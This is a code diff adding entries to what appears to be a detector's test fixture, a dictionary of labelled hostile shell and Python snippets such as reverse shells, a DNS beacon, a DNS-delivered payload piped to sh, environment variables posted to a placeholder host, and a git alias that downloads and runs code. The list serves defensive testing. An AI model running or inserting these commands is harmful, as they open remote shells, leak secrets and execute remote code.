@@ -301,6 +301,14 @@ FORMS: dict[str, tuple[str, str]] = {
     "reverse ssh tunnel": ("a.sh", "ssh -f -N -R 2222:localhost:22 relay@192.0.2.1\n"),
     "local ssh exposed with ngrok": ("a.sh", "ngrok tcp 22\n"),
     "perl reverse shell": ("a.sh", "perl -e 'use Socket;$i=\"192.0.2.1\";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton($i)));exec(\"/bin/sh -i\");'\n"),  # noqa: E501
+    "identity beacon over DNS": ("a.sh", "nslookup $(whoami).$(hostname).beacon.example.invalid\n"),
+    "payload in a DNS TXT record": ("a.sh", "dig +short TXT cfg.example.invalid | tr -d '\"' | base64 -d | sh\n"),
+    "the whole environment posted": ("a.py", "import os, requests\nrequests.post('https://c.example.invalid', json=dict(**os.environ))\n"),  # noqa: E501
+    "the environment object posted": ("a.py", "import os, requests\nrequests.post('https://c.example.invalid', json={'e': os.environ})\n"),  # noqa: E501
+    "gawk reverse shell": ("a.sh", "gawk 'BEGIN {s = \"/inet/tcp/0/192.0.2.1/4444\"; while ((s |& getline c) > 0) { print c |& s; system(\"sh\") }}'\n"),  # noqa: E501
+    "deno run of a URL": ("a.sh", "deno run -A https://cdn.example.invalid/x.ts\n"),
+    "shell between two sockets": ("a.sh", "telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445\n"),
+    "git alias that downloads": ("a.sh", "git config --global alias.st '!curl -s http://192.0.2.1/x | sh; git status'\n"),  # noqa: E501
     "direnv file that downloads": ("a.sh", "echo 'curl -s http://192.0.2.1/x | sh' > .envrc\n"),
 }  # fmt: skip
 """More spellings of the same behaviours: persistence, download-and-run, remote shells, installs, sends."""
